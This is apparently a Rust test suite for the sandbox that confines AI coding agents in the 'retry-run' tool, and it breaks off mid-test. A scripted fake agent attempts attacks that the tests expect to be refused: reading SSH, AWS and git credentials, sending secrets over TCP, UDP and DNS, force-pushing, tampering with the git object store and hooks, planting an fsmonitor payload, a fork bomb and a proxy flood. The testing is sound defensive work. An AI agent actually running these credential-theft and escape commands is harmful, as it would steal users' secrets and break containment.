//! Containment of the agent, tried as an attacker would: an agent (a
//! script) that reads the user's secrets and sends them over TCP, UDP and a
//! DNS-shaped packet to listeners on 127.0.0.1, pushes to the user's
//! remote, tampers with the object store, rewrites its git links before a
//! `worktree.setup` and a verifier run, talks to sockets outside, forks
//! without end and writes `/dev/shm` and `/tmp`. Each is refused, and
//! afterwards the checkout, the object store, the remote, `HOME` and the
//! machine's processes are as before; a legitimate agent still commits in
//! its worktree and reaches an allowed host through the proxy.
//!
//! Each attack runs under namespaces (bubblewrap, Landlock inside) and
//! under the fallback (Landlock and seccomp, bubblewrap taken away), as the
//! user the tests run as (root in CI) and as an unprivileged user (when the
//! tests run as root). Where the fallback refuses differently, its own
//! behaviour is asserted (docs/sandbox.md, "What each mode stops"): `/tmp`
//! read-only rather than private, `/dev/shm` closed rather than private,
//! TCP only to the proxy's port, UDP and UNIX sockets refused by seccomp.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::support::modes::{Mode, Who, as_who, can_as_me, can_burst, give_back, turn};
use crate::support::record::{first, outcomes};
use crate::support::{FakeAgent, Run, TestEnv};

/// A `retry-run` command of `env` in `r`, given its arguments by `args`,
/// run to its end as `who` under `mode`; the test directory given back
/// after.
fn confined(env: &TestEnv, r: &Path, mode: Mode, who: Who, args: Vec<String>) -> Run {
    let mut cmd = env.retry_run(r);
    cmd.args(args);
    let run = Run::of(&mut as_who(env, cmd, mode, who));
    give_back(env, who);
    run
}

/// The three tests of an attack: under namespaces and under the fallback
/// as the user the tests run as (root in CI), and under both as an
/// unprivileged user (where the tests do not run as root, that user is
/// their own, as in `containment_outside`).
macro_rules! in_each_mode {
    ($attack:ident: $namespaces:ident, $fallback:ident, $unprivileged:ident) => {
        #[test]
        fn $namespaces() {
            $attack(Mode::Namespaces, Who::Root);
        }

        #[test]
        fn $fallback() {
            $attack(Mode::Fallback, Who::Root);
        }

        #[test]
        fn $unprivileged() {
            $attack(Mode::Namespaces, Who::Nobody);
            $attack(Mode::Fallback, Who::Nobody);
        }
    };
}

fn repo(env: &TestEnv, toml: &str) -> PathBuf {
    env.repo("repo")
        .file("src/app.txt", "value = 1\n")
        .file("notes.txt", "the user's notes\n")
        .file("retry-run.toml", toml)
        .commit()
}

/// A secret in the test's `HOME` and the listeners it could be sent to.
struct Exfil {
    tcp: TcpListener,
    udp: UdpSocket,
}

impl Exfil {
    fn new() -> Exfil {
        let tcp = TcpListener::bind("127.0.0.1:0").expect("tcp listener");
        tcp.set_nonblocking(true).expect("nonblocking");
        let udp = UdpSocket::bind("127.0.0.1:0").expect("udp socket");
        udp.set_nonblocking(true).expect("nonblocking");
        Exfil { tcp, udp }
    }

    fn ports(&self) -> (u16, u16) {
        (self.tcp.local_addr().expect("addr").port(), self.udp.local_addr().expect("addr").port())
    }

    /// What reached the listeners.
    fn received(&self) -> Vec<String> {
        let mut got = Vec::new();
        while let Ok((mut s, _)) = self.tcp.accept() {
            let mut buf = String::new();
            let _ = s.set_nonblocking(false);
            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
            let _ = s.read_to_string(&mut buf);
            got.push(format!("tcp: {buf}"));
        }
        let mut buf = [0u8; 2048];
        while let Ok(n) = self.udp.recv(&mut buf) {
            got.push(format!("udp: {}", String::from_utf8_lossy(&buf[..n])));
        }
        got
    }
}

/// A python3 one-liner run by the agent; its outcome goes to `results.txt`.
fn attempt(name: &str, py: &str) -> String {
    format!(
        "if python3 -c {py:?} 2>>errors.txt; then echo '{name}: ok' >> results.txt; else echo '{name}: refused' >> results.txt; fi"
    )
}

fn plant_secrets(env: &TestEnv) {
    let home = env.home();
    for (rel, text) in [
        (".ssh/id_ed25519", "PRIVATE KEY"),
        (".aws/credentials", "aws_secret"),
        (".git-credentials", "https://u:token@host"),
        ("other-project/.env", "OTHER_PROJECT_TOKEN=s3cret"),
    ] {
        let p = home.join(rel);
        std::fs::create_dir_all(p.parent().expect("a parent")).expect("mkdir");
        std::fs::write(&p, text).expect("plant");
    }
}

fn secrets_neither_read_nor_sent_over_tcp_udp_or_dns(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    let env = TestEnv::new();
    plant_secrets(&env);
    let ex = Exfil::new();
    let (tcp, udp) = ex.ports();
    let r = repo(&env, "max_attempts = 1\n");
    let read = r#"for f in .ssh/id_ed25519 .aws/credentials .git-credentials other-project/.env; do if cat "$HOME/$f" >/dev/null 2>&1; then echo "$f: read"; else echo "$f: refused"; fi; done >> results.txt"#;
    let dns = "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01";
    let agent = env.agent(
        FakeAgent::new()
            .sh(read)
            .sh(&attempt("tcp", &format!("import socket; s=socket.create_connection(('127.0.0.1',{tcp}),2); s.sendall(b'secret')")))
            .sh(&attempt("udp", &format!("import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'secret',('127.0.0.1',{udp}))")))
            .sh(&attempt("dns", &format!("import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'{dns}',('127.0.0.1',{udp}))")))
            .sh(&attempt("resolve", "import socket; socket.getaddrinfo('example.com', 443)"))
            .append("src/app.txt", "value = 2\n"),
    );
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Exfil"]));
    run.assert_code(0);
    let res = env.git(&r, &["show", "refs/retry-run/exfil/1:results.txt"]);
    for refused in [".ssh/id_ed25519", ".aws/credentials", ".git-credentials", "other-project/.env", "resolve"] {
        assert!(res.contains(&format!("{refused}: refused")), "{refused} was not refused:\n{res}");
    }
    let started = first(&r, "exfil", "AgentStarted");
    let layers = &started["sandbox"]["layers"];
    match mode {
        Mode::Namespaces => {
            // A direct connection to a port this machine listens on is
            // answered inside the namespace, recorded as refused and
            // closed: it may look connected for a moment, but nothing
            // reaches the listener outside.
            let refused = first(&r, "exfil", "AgentFinished")["refused_hosts"].to_string();
            assert!(
                res.contains("tcp: refused") || refused.contains(&format!("127.0.0.1:{tcp}")),
                "tcp was neither refused nor recorded:\n{res}\n{refused}"
            );
            // A datagram to 127.0.0.1 inside the namespace is "sent" to its
            // own loopback: the point is that none arrives here.
            assert_eq!(
                layers["namespaces"],
                serde_json::json!(["user", "mount", "pid", "ipc", "uts", "net"]),
                "{started}"
            );
            assert!(layers["landlock_abi"].as_u64().is_some_and(|a| a >= 1), "{started}");
        }
        Mode::Fallback => {
            // TCP only to the proxy's port (Landlock), UDP refused (seccomp):
            // each fails at once.
            for refused in ["tcp", "udp", "dns"] {
                assert!(res.contains(&format!("{refused}: refused")), "{refused} was not refused ({who:?}):\n{res}");
            }
            assert_eq!(started["sandbox"]["mode"], "landlock", "{started}");
            assert!(layers["landlock_abi"].as_u64().is_some_and(|a| a >= 4), "{started}");
        }
    }
    assert_eq!(ex.received(), Vec::<String>::new(), "something left the sandbox ({mode:?}, {who:?}):\n{res}");
    assert!(layers["seccomp_denies"].as_array().is_some_and(|d| d.iter().any(|x| x == "unix")), "{started}");
}

in_each_mode!(
    secrets_neither_read_nor_sent_over_tcp_udp_or_dns:
    secrets_neither_read_nor_sent_over_tcp_udp_or_dns_under_namespaces,
    secrets_neither_read_nor_sent_over_tcp_udp_or_dns_under_the_fallback,
    secrets_neither_read_nor_sent_over_tcp_udp_or_dns_as_an_unprivileged_user
);

fn an_allowed_host_is_reached_through_the_proxy_and_a_refused_one_is_recorded(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    let env = TestEnv::new();
    let server = TcpListener::bind("127.0.0.1:0").expect("http server");
    let port = server.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for s in server.incoming().flatten() {
            let mut s = s;
            let mut buf = [0u8; 4096];
            let _ = std::io::Read::read(&mut s, &mut buf);
            let _ = std::io::Write::write_all(
                &mut s,
                b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello",
            );
        }
    });
    let r = repo(&env, &format!("max_attempts = 1\n[sandbox]\nnetwork = [\"127.0.0.1:{port}\"]\n"));
    let get =
        |url: &str| format!("import urllib.request; print(urllib.request.urlopen({url:?}, timeout=5).read().decode())");
    // The proxy starts at the first connection, however late it comes; the
    // second finds it running.
    let agent = env.agent(
        FakeAgent::new()
            .sh(&format!(
                "sleep 0.3; python3 -c {:?} > fetched.txt 2>&1 || true",
                get(&format!("http://127.0.0.1:{port}/"))
            ))
            .sh(&attempt("refused-host", &get("http://refused.example/")))
            .append("src/app.txt", "value = 2\n"),
    );
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Net"]));
    run.assert_code(0);
    let fetched = env.git(&r, &["show", "refs/retry-run/net/1:fetched.txt"]);
    assert_eq!(fetched.trim(), "hello", "{fetched}");
    let res = env.git(&r, &["show", "refs/retry-run/net/1:results.txt"]);
    assert!(res.contains("refused-host: refused"), "{res}");
    let done = first(&r, "net", "AgentFinished");
    let text = done.to_string();
    assert!(text.contains("refused.example:80"), "the refused host is not in the record: {text}");
    let report = env.run(&r, &["report", "net"]);
    assert!(
        report.stdout.contains("refused.example:80") && report.stdout.contains("[sandbox] network"),
        "{}",
        report.stdout
    );
}

in_each_mode!(
    an_allowed_host_is_reached_through_the_proxy_and_a_refused_one_is_recorded:
    an_allowed_host_is_reached_through_the_proxy_and_a_refused_one_is_recorded_under_namespaces,
    an_allowed_host_is_reached_through_the_proxy_and_a_refused_one_is_recorded_under_the_fallback,
    an_allowed_host_is_reached_through_the_proxy_and_a_refused_one_is_recorded_as_an_unprivileged_user
);

/// A child in its own process group, killed whole when dropped.
struct Group(std::process::Child);

impl Drop for Group {
    fn drop(&mut self) {
        let _ = std::process::Command::new("kill").args(["-KILL", "--", &format!("-{}", self.0.id())]).status();
        let _ = self.0.wait();
    }
}

fn a_push_to_the_users_remote_is_refused(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    let env = TestEnv::new();
    let r = repo(&env, "max_attempts = 1\n");
    let remote = env.path("remote.git");
    env.git(env.root(), &["clone", "-q", "--bare", &r.display().to_string(), &remote.display().to_string()]);
    let port = TcpListener::bind("127.0.0.1:0").expect("a free port").local_addr().expect("addr").port();
    // `git daemon` runs `git-daemon` as its child: the daemon gets its own
    // process group, ended whole when the test ends however it ends, and
    // no pipe of the test's (a leftover daemon would hold the harness's).
    let daemon = env
        .command("git", env.root())
        // The repositories are the unprivileged user's while it runs: the
        // daemon (root's) would refuse them for that alone otherwise.
        .args(["-c", "safe.directory=*"])
        .args(["daemon", "--reuseaddr", "--listen=127.0.0.1", &format!("--port={port}"), "--export-all"])
        .args(["--enable=receive-pack", &format!("--base-path={}", env.root().display())])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .process_group(0)
        .spawn()
        .expect("git daemon");
    let daemon = Group(daemon);
    let url = format!("git://127.0.0.1:{port}/remote.git");
    env.git(&r, &["remote", "add", "origin", &url]);
    // The daemon is up once a push from outside works (an empty one).
    let ready = (0..100).any(|_| {
        std::thread::sleep(Duration::from_millis(50));
        env.git_raw(&r, [std::ffi::OsStr::new("ls-remote"), std::ffi::OsStr::new(&url)]).status.success()
    });
    assert!(ready, "git daemon did not start");
    let before = env.git(&remote, &["rev-parse", "main"]);
    let agent = env.agent(
        FakeAgent::new()
            .append("src/app.txt", "value = 2\n")
            .sh("git -c user.name=a -c user.email=a@b commit -qam evil")
            .sh("if git push -q --force origin HEAD:main 2>>errors.txt; then echo 'push: ok'; else echo 'push: refused'; fi > results.txt"),
    );
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Push"]));
    drop(daemon);
    run.assert_code(0);
    let res = env.git(&r, &["show", "refs/retry-run/push/1:results.txt"]);
    assert!(res.contains("push: refused"), "{res}");
    assert_eq!(env.git(&remote, &["rev-parse", "main"]), before, "the remote's main moved");
}

in_each_mode!(
    a_push_to_the_users_remote_is_refused:
    a_push_to_the_users_remote_is_refused_under_namespaces,
    a_push_to_the_users_remote_is_refused_under_the_fallback,
    a_push_to_the_users_remote_is_refused_as_an_unprivileged_user
);

/// What the agent writes to an object of its own past the quarantine.
const AGENTS_OBJECT: &str = "an-object-of-the-agents-own";

fn the_object_store_refs_and_config_cannot_be_touched_but_a_commit_in_the_worktree_works(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    let env = TestEnv::new();
    let r = repo(&env, "max_attempts = 1\n");
    // One pack and the HEAD commit's objects loose, as a user's repository has them.
    env.git(&r, &["gc", "-q"]);
    std::fs::write(r.join("notes.txt"), "the user's notes, v2\n").expect("write");
    env.git(&r, &["commit", "-qam", "v2"]);
    let blob = env.git(&r, &["rev-parse", "HEAD:notes.txt"]).trim().to_string();
    let loose = r.join(".git/objects").join(&blob[..2]).join(&blob[2..]);
    assert!(loose.is_file(), "the test needs a loose object");
    let pack = std::fs::read_dir(r.join(".git/objects/pack"))
        .expect("packs")
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "pack"))
        .expect("a pack");
    let git = r.join(".git");
    let tries = [
        ("replace-blob", format!("chmod u+w {0}; printf x > {0}", loose.display())),
        ("delete-object", format!("rm -f {}", loose.display())),
        ("overwrite-pack", format!("chmod u+w {0}; printf x > {0}", pack.display())),
        ("alternates", format!("echo /tmp > {}/objects/info/alternates", git.display())),
        ("ref", format!("echo 0000000000000000000000000000000000000000 > {}/refs/heads/main", git.display())),
        ("config", format!("echo '[core]' >> {}/config", git.display())),
        ("hook", format!("echo 'echo owned' > {}/hooks/post-checkout", git.display())),
        (
            "unset-quarantine",
            "env -u GIT_OBJECT_DIRECTORY -u GIT_ALTERNATE_OBJECT_DIRECTORIES git hash-object -w notes.txt".into(),
        ),
        (
            "unset-quarantine-new",
            format!(
                "echo {AGENTS_OBJECT} > new.txt; \
                 env -u GIT_OBJECT_DIRECTORY -u GIT_ALTERNATE_OBJECT_DIRECTORIES git hash-object -w new.txt; \
                 s=$?; rm -f new.txt; exit $s"
            ),
        ),
    ];
    let agents_object = {
        let f = env.write("agents-object.txt", format!("{AGENTS_OBJECT}\n"));
        env.git(&r, &["hash-object", &f.display().to_string()]).trim().to_string()
    };
    // The loose object's mode and times.
    let loose_meta = || {
        use std::os::unix::fs::MetadataExt;
        let m = std::fs::metadata(&loose).expect("the loose object");
        (m.mode(), m.mtime(), m.mtime_nsec())
    };
    let loose_before = loose_meta();
    let mut agent = FakeAgent::new();
    for (name, cmd) in &tries {
        agent = agent.sh(&format!(
            "if ( {cmd} ) 2>>errors.txt; then echo '{name}: ok' >> results.txt; else echo '{name}: refused' >> results.txt; fi"
        ));
    }
    let agent = env.agent(
        agent
            .append("src/app.txt", "value = 2\n")
            .sh("git add src/app.txt && git -c user.name=a -c user.email=a@b commit -qm agent && echo 'commit: ok' >> results.txt"),
    );
    let head_tree = |env: &TestEnv| env.git(&r, &["rev-parse", "HEAD^{tree}", "main"]);
    let before = head_tree(&env);
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Odb"]));
    run.assert_code(0);
    let res = env.git(&r, &["show", "refs/retry-run/odb/1:results.txt"]);
    for (name, _) in &tries {
        // In the fallback, `hash-object -w` of an object the store already
        // has only freshens it (git sets the existing file's times; Landlock
        // governs no times, as no modes): it "succeeds" without writing.
        // The object written with the quarantine unset is refused in both.
        if mode == Mode::Fallback && *name == "unset-quarantine" {
            continue;
        }
        assert!(res.contains(&format!("{name}: refused")), "{name} was not refused ({mode:?}, {who:?}):\n{res}");
    }
    // Under namespaces the store is a read-only mount: not even the
    // loose object's mode (`chmod u+w` above) or times change. Landlock
    // governs neither, so in the fallback both do (the content does not:
    // fsck below).
    if mode == Mode::Namespaces {
        assert_eq!(loose_meta(), loose_before, "the loose object's mode or times changed ({who:?})");
    }
    let absent = env.git_raw(&r, ["cat-file", "-e", &agents_object].into_iter().map(std::ffi::OsStr::new));
    assert!(!absent.status.success(), "the agent wrote an object past the quarantine ({mode:?}, {who:?})");
    assert!(res.contains("commit: ok"), "{res}");
    assert_eq!(head_tree(&env), before, "a ref of the user's moved");
    assert_eq!(env.git(&r, &["show", "HEAD:notes.txt"]).trim(), "the user's notes, v2");
    let fsck = env.git_raw(&r, ["fsck", "--strict"].into_iter().map(std::ffi::OsStr::new));
    assert!(fsck.status.success(), "git fsck: {}", String::from_utf8_lossy(&fsck.stderr));
    assert!(!git.join("objects/info/alternates").exists());
    // The agent's commit came in through the quarantine, checked.
    assert_eq!(env.git(&r, &["show", "refs/retry-run/odb/1:src/app.txt"]).trim(), "value = 1\nvalue = 2");
}

in_each_mode!(
    the_object_store_refs_and_config_cannot_be_touched_but_a_commit_in_the_worktree_works:
    the_object_store_refs_and_config_cannot_be_touched_but_a_commit_in_the_worktree_works_under_namespaces,
    the_object_store_refs_and_config_cannot_be_touched_but_a_commit_in_the_worktree_works_under_the_fallback,
    the_object_store_refs_and_config_cannot_be_touched_but_a_commit_in_the_worktree_works_as_an_unprivileged_user
);

fn rewritten_git_links_run_nothing_unconfined_in_the_next_setup_or_the_verifier(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    let env = TestEnv::new();
    let marker = env.path("owned.txt");
    let payload = env.write("payload.sh", format!("#!/bin/sh\necho owned >> {}\n", marker.display()));
    std::fs::set_permissions(&payload, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    let toml = "max_attempts = 2\n[worktree]\nsetup = \"git status --short >/dev/null\"\n\
                [[check]]\nname = \"t\"\nkind = \"test\"\nrun = \"grep -q fixed src/app.txt\"\n\
                [verifier]\nretries = 0\nrun = \"git status --short >/dev/null; echo '{\\\"verdict\\\": \\\"approved\\\"}'\"\n";
    let r = repo(&env, toml);
    crate::support::keep_worktrees(&env, &r);
    std::fs::write(r.join("notes.txt"), "a staged edit\n").expect("write");
    env.git(&r, &["add", "notes.txt"]);
    let user = |env: &TestEnv| (env.git(&r, &["rev-parse", "HEAD"]), env.git(&r, &["diff", "--cached"]));
    let before = user(&env);
    let fake = "$TMPDIR/fake";
    let agent = env.agent(
        FakeAgent::new()
            .append("src/app.txt", "wrong\n")
            .sh(&format!(
                "mkdir -p {fake}/objects {fake}/refs && echo 'ref: refs/heads/main' > {fake}/HEAD && \
                 printf '[core]\\n\\tfsmonitor = {}\\n[filter \"x\"]\\n\\tclean = {}\\n' > {fake}/config",
                payload.display(),
                payload.display()
            ))
            .sh(&format!(
                "(echo \"{fake}\" > \"$(git rev-parse --git-dir)/commondir\") 2>/dev/null; echo 'commondir tried' > tried.txt"
            ))
            .sh(&format!("(printf 'gitdir: {}/.git\\n' > .git) 2>/dev/null; true", r.display()))
            .next_call()
            .append("src/app.txt", "fixed\n"),
    );
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Links"]));
    run.assert_code(0);
    assert!(!marker.exists(), "the agent's code ran outside the sandbox:\n{}", run.stderr);
    assert_eq!(user(&env), before, "the user's HEAD or staged work changed");
    assert_eq!(outcomes(&r, "links").last().map(String::as_str), Some("SUCCESS"));
    let link = std::fs::read_to_string(r.join(".git/retry-run/worktrees/links/.git")).expect(".git file");
    assert!(link.contains("/worktrees/retry-run-links"), "{link}");
}

in_each_mode!(
    rewritten_git_links_run_nothing_unconfined_in_the_next_setup_or_the_verifier:
    rewritten_git_links_run_nothing_unconfined_in_the_next_setup_or_the_verifier_under_namespaces,
    rewritten_git_links_run_nothing_unconfined_in_the_next_setup_or_the_verifier_under_the_fallback,
    rewritten_git_links_run_nothing_unconfined_in_the_next_setup_or_the_verifier_as_an_unprivileged_user
);

fn sockets_outside_are_unreachable_named_or_abstract(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let env = TestEnv::new();
    let named = env.home().join("agent.sock");
    let named_l = UnixListener::bind(&named).expect("named socket");
    named_l.set_nonblocking(true).expect("nonblocking");
    // One name per test and mode: the tests of one process run at once.
    let abstract_name = format!("retry-run-test-{}-{mode:?}-{who:?}", std::process::id());
    let abstract_l = UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes()).expect("name"))
        .expect("abstract");
    abstract_l.set_nonblocking(true).expect("nonblocking");
    let r = repo(&env, "max_attempts = 1\n");
    let agent = env.agent(
        FakeAgent::new()
            .sh(&attempt(
                "named",
                &format!(
                    "import socket; s=socket.socket(socket.AF_UNIX); s.connect({:?}); s.sendall(b'rm -rf /')",
                    named.display().to_string()
                ),
            ))
            .sh(&attempt(
                "abstract",
                &format!(
                    "import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0{abstract_name}'); s.sendall(b'x')"
                ),
            ))
            .append("src/app.txt", "value = 2\n"),
    );
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Sock"]));
    run.assert_code(0);
    let res = env.git(&r, &["show", "refs/retry-run/sock/1:results.txt"]);
    assert!(res.contains("named: refused") && res.contains("abstract: refused"), "{res}");
    // Under namespaces and in the fallback alike, seccomp refuses the
    // UNIX socket itself; the abstract name is also out of reach by the
    // network namespace, or in the fallback by Landlock's scope (ABI 6), a
    // second layer no socket the agent can make gets past seccomp to try.
    assert!(
        named_l.accept().is_err() && abstract_l.accept().is_err(),
        "a connection reached a socket outside ({mode:?}, {who:?})"
    );
}

in_each_mode!(
    sockets_outside_are_unreachable_named_or_abstract:
    sockets_outside_are_unreachable_named_or_abstract_under_namespaces,
    sockets_outside_are_unreachable_named_or_abstract_under_the_fallback,
    sockets_outside_are_unreachable_named_or_abstract_as_an_unprivileged_user
);

fn a_fork_burst_meets_the_process_limit_and_shm_and_tmp_are_private(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    if !can_burst(mode) {
        return;
    }
    let _turn = turn(who, true);
    let env = TestEnv::new();
    let tag = format!("{}-{mode:?}-{who:?}", std::process::id());
    let shm_marker = PathBuf::from(format!("/dev/shm/retry-run-test-{tag}"));
    std::fs::write(&shm_marker, "another program's").expect("a file in /dev/shm");
    let tmp_marker = format!("/tmp/retry-run-test-agent-{tag}");
    let shm_agent = format!("/dev/shm/retry-run-test-agent-{tag}");
    let r = repo(&env, "max_attempts = 1\n[sandbox]\nmax_processes = 50\n");
    let agent = env.agent(
        FakeAgent::new()
            .sh("i=0; while [ $i -lt 400 ]; do (sleep 2 &) 2>/dev/null; i=$((i+1)); done; true")
            .sh(&format!(
                "if cat {} >/dev/null 2>&1; then echo 'shm-read: ok'; else echo 'shm-read: refused'; fi >> results.txt",
                shm_marker.display()
            ))
            .sh(&format!("if echo mine > {shm_agent}; then echo 'shm-write: private'; else echo 'shm-write: refused'; fi >> results.txt"))
            .sh(&format!("if echo mine > {tmp_marker}; then echo 'tmp-write: private'; else echo 'tmp-write: refused'; fi >> results.txt"))
            .append("src/app.txt", "value = 2\n"),
    );
    let run = confined(&env, &r, mode, who, agent.after(&["run", "--quiet", "--task", "Burst"]));
    let _ = std::fs::remove_file(&shm_marker);
    let shm_made = Path::new(&shm_agent).exists();
    let _ = std::fs::remove_file(&shm_agent);
    let tmp_made = Path::new(&tmp_marker).exists();
    let _ = std::fs::remove_file(&tmp_marker);
    run.assert_code(0);
    let res = env.git(&r, &["show", "refs/retry-run/burst/1:results.txt"]);
    assert!(res.contains("shm-read: refused"), "{res}");
    assert!(!shm_made, "the agent's /dev/shm is the machine's ({mode:?}, {who:?})");
    assert!(!tmp_made, "the agent's /tmp is the machine's ({mode:?}, {who:?})");
    if mode == Mode::Fallback {
        // /dev/shm closed rather than private, /tmp read-only.
        assert!(res.contains("shm-write: refused") && res.contains("tmp-write: refused"), "{res}");
    }
    // The pids cgroup holds the limit for root; as another user the
    // kernel's RLIMIT_NPROC does (in the fallback counting all of that
    // user's processes, other tests' too), which records no hit.
    let done = first(&r, "burst", "AgentFinished");
    let hits = done.to_string();
    if who == Who::Root && retry_run::sandbox::layers::limits::PidsCgroup::new(10, None, false).is_some() {
        assert!(hits.contains("the process limit (50) refused"), "{hits}");
    }
}

in_each_mode!(
    a_fork_burst_meets_the_process_limit_and_shm_and_tmp_are_private:
    a_fork_burst_meets_the_process_limit_and_shm_and_tmp_are_private_under_namespaces,
    a_fork_burst_meets_the_process_limit_and_shm_and_tmp_are_private_under_the_fallback,
    a_fork_burst_meets_the_process_limit_and_shm_and_tmp_are_private_as_an_unprivileged_user
);

/// Where namespaces are refused (simulated: no bubblewrap), the fallback
/// (Landlock and seccomp) still refuses TCP but to the proxy, UDP and
/// UNIX sockets, and says so once.
#[test]
fn the_fallback_without_namespaces_refuses_the_network_and_says_so() {
    if retry_run::sandbox::layers::landlock::abi() < 4 {
        eprintln!("SKIPPED: Landlock ABI 4 (network rules) is needed");
        return;
    }
    let env = TestEnv::new();
    let ex = Exfil::new();
    let (tcp, udp) = ex.ports();
    let r = repo(&env, "max_attempts = 1\n");
    let agent = env.agent(
        FakeAgent::new()
            .sh(&attempt("tcp", &format!("import socket; s=socket.create_connection(('127.0.0.1',{tcp}),2); s.sendall(b'secret')")))
            .sh(&attempt("udp", &format!("import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'secret',('127.0.0.1',{udp}))")))
            .sh(&attempt("unix", "import socket; socket.socket(socket.AF_UNIX)"))
            .append("src/app.txt", "value = 2\n"),
    );
    let run = Run::of(env.retry_run(&r).env("RETRY_RUN_BWRAP", "").args(agent.after(&["run", "--task", "Fallback"])));
    run.assert_code(0);
    assert_eq!(run.stderr.matches("namespaces cannot be used").count(), 1, "{}", run.stderr);
    let res = env.git(&r, &["show", "refs/retry-run/fallback/1:results.txt"]);
    for refused in ["tcp", "udp", "unix"] {
        assert!(res.contains(&format!("{refused}: refused")), "{refused} was not refused:\n{res}");
    }
    assert_eq!(ex.received(), Vec::<String>::new());
    let started = first(&r, "fallback", "AgentStarted");
    assert_eq!(started["sandbox"]["mode"], "landlock", "{started}");
}

/// What the confined script of the flood test runs: 2,000 connections to
/// the proxy one after another, each asking for a tunnel to `argv[1]` and
/// kept while the tunnel is open; then, once the test says `go`, all closed
/// and one ordinary request made.
const FLOOD: &str = r#"
import os, socket, sys, time, urllib.request
target = sys.argv[1]
port = int(os.environ["http_proxy"].rsplit(":", 1)[1])
held, counts = [], {"200": 0, "503": 0, "other": 0}
for _ in range(2000):
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    status = head.split(b" ")[1].decode() if head.startswith(b"HTTP/1.1 ") else "other"
    counts[status if status in counts else "other"] += 1
    if status == "200":
        held.append(s)
    else:
        s.close()
open("flood.txt", "w").write("%(200)d %(503)d %(other)d\n" % counts)
while not os.path.exists("go"):
    time.sleep(0.05)
for s in held:
    s.close()
for attempt in range(50):
    try:
        print(urllib.request.urlopen("http://%s/" % target, timeout=10).read().decode())
        break
    except Exception as e:
        time.sleep(0.1)
"#;

/// A flood of connections from a confined process costs the process that
/// runs the proxy no thread: past `MAX_OPEN` at once, the proxy answers 503
/// and says so once in the log; once the flood is closed, an ordinary
/// request goes through.
fn a_flood_of_connections_costs_the_proxy_no_thread_and_ordinary_requests_pass(mode: Mode, who: Who) {
    if !can_as_me(mode, who) {
        return;
    }
    let _turn = turn(who, false);
    let env = TestEnv::new();
    // The allowed host: answers a GET with `hello`, holds a tunnel until
    // its client closes.
    let server = TcpListener::bind("127.0.0.1:0").expect("server");
    let target = format!("127.0.0.1:{}", server.local_addr().expect("addr").port());
    std::thread::spawn(move || {
        for mut s in server.incoming().flatten() {
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                while let Ok(n) = s.read(&mut buf)
                    && n > 0
                {
                    if buf.starts_with(b"GET ") {
                        let ok = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello";
                        let _ = std::io::Write::write_all(&mut s, ok);
                        return;
                    }
                }
            });
        }
    });
    let dir = env.path("work");
    std::fs::create_dir(&dir).expect("mkdir");
    std::fs::write(dir.join("flood.py"), FLOOD).expect("script");
    let log = env.path("net.jsonl");
    let mut cmd = env.retry_run(&dir);
    cmd.args(["sandbox", "--network", &target, "--log", &log.display().to_string(), "--"])
        .args(["python3", "flood.py", &target]);
    // As the unprivileged user, `setpriv` runs `retry-run` in its own
    // process: the pid is retry-run's.
    let child = as_who(&env, cmd, mode, who)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("retry-run sandbox starts");
    let status = format!("/proc/{}/status", child.id());
    let deadline = std::time::Instant::now() + Duration::from_secs(180);
    while !dir.join("flood.txt").exists() {
        assert!(std::time::Instant::now() < deadline, "the flood did not end");
        std::thread::sleep(Duration::from_millis(50));
    }
    let threads: usize = std::fs::read_to_string(&status)
        .expect("the sandbox's status")
        .lines()
        .find_map(|l| l.strip_prefix("Threads:"))
        .and_then(|n| n.trim().parse().ok())
        .expect("Threads");
    std::fs::write(dir.join("go"), "").expect("go");
    let out = child.wait_with_output().expect("retry-run sandbox ends");
    give_back(&env, who);
    let flood = std::fs::read_to_string(dir.join("flood.txt")).expect("flood.txt");
    let max = retry_run::sandbox::proxy::MAX_OPEN;
